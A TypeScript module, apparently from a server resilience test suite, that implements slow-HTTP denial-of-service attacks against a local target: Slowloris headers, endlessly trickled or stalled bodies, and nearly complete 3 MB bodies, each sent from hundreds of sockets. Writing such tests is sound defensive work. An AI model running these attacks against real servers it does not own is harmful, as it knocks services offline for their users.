/** Attacks: clients that send a little now and then, and never come to an end. Judge nothing. */
import type net from 'node:net';
import { Crowd, type Outcome, type Target } from './crowd.ts';
import { head } from './requests.ts';

const members = 200;
const everyMs = 1000;

/** Slowloris: a header more every second, never the last one. */
export async function slowHeaders(target: Target): Promise<Outcome> {
  const crowd = new Crowd(target);
  await crowd.gather(members, { act: (socket) => socket.write('POST /mutate HTTP/1.1\r\nHost: localhost\r\n') });
  await crowd.pester(everyMs, (socket) => socket.write('X-Slow: 1\r\n'));
  return crowd.disband();
}

/** Bodies that never end: a byte a second of a length, a chunk a second of a stream, and a length of which half comes. */
export async function slowBodies(target: Target): Promise<Outcome> {
  const crowd = new Crowd(target);
  const chunked = new Set<net.Socket>();
  const silent = new Set<net.Socket>();
  await crowd.gather(members, { act: (socket) => socket.write(`${head({ length: 2000 })}{`) });
  await crowd.gather(members, {
    act: (socket) => {
      chunked.add(socket);
      socket.write(`${head({ isChunked: true })}1\r\n{\r\n`);
    },
  });
  await crowd.gather(members, {
    act: (socket) => {
      silent.add(socket);
      socket.write(head({ length: 2000 }) + ' '.repeat(1000));
    },
  });
  await crowd.pester(everyMs, (socket) => {
    if (!silent.has(socket)) socket.write(chunked.has(socket) ? '1\r\n \r\n' : ' ');
  });
  return crowd.disband();
}

/** Bodies of which nearly all comes, and then nothing: what has come is kept, were there no bound. */
export async function heavyBodies(target: Target): Promise<Outcome> {
  const crowd = new Crowd(target);
  const most = Buffer.alloc(2_900_000, ' ');
  await crowd.gather(heavyMembers, {
    act: (socket) => {
      socket.write(head({ length: 3_000_000 }));
      socket.write(most);
    },
  });
  return crowd.disband();
}

const heavyMembers = 60;
